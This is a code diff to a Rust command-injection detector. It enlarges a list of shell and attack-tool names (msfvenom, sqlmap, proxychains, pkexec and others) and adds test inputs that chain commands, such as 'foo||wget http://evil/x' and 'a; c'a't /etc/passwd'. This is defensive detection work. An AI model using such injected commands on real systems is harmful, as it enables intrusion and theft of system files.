@@ -17,7 +17,7 @@ use std::borrow::Cow;
 
 /// Commands an injected payload runs that are not English words: matched at any command
 /// position.
-const COMMANDS: [&str; 143] = [
+const COMMANDS: [&str; 181] = [
     "whoami",
     "uname",
     "wget",
@@ -161,6 +161,45 @@ const COMMANDS: [&str; 143] = [
     "bcdboot",
     "ssh-copy-id",
     "bsdtar",
+    // System administration and attack tools (names no sentence uses).
+    "lsblk",
+    "lscpu",
+    "lsmod",
+    "lspci",
+    "lsusb",
+    "lsattr",
+    "journalctl",
+    "userdel",
+    "groupdel",
+    "getent",
+    "sysctl",
+    "iptables",
+    "ip6tables",
+    "modprobe",
+    "insmod",
+    "rmmod",
+    "dpkg",
+    "apt-get",
+    "apt-cache",
+    "javac",
+    "rustc",
+    "sshpass",
+    "proxychains",
+    "msfconsole",
+    "msfvenom",
+    "sqlmap",
+    "nikto",
+    "masscan",
+    "tshark",
+    "ifup",
+    "ifdown",
+    "iwconfig",
+    "traceroute",
+    "getfacl",
+    "setcap",
+    "getcap",
+    "pkexec",
+    "runuser",
 ];
 
 /// Commands that are also subjects of ordinary text (languages, well-known tools, names).
@@ -1441,6 +1480,9 @@ mod tests {
             "a; c'a't /etc/passwd",
             "a;w\\hoami",
             "foo||wget http://evil/x",
+            "x; lsblk",
+            "x && sqlmap -u http://t/?id=1",
+            "a|journalctl -xe",
         ] {
             assert!(ids(v).contains(&"rce-001"), "{v}: {:?}", ids(v));
         }
